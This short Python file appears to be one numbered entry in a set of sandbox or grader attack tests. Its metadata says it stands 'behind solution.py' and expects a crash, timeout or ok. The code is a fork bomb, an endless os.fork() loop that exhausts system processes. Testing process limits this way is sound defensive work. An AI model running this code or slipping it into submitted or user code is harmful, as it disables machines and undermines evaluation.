"""Forks without end.

Attack: 8
Behind: solution.py
Keeps: none
Status: crashed or timeout or ok
Limits: 2
Needs: processes
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
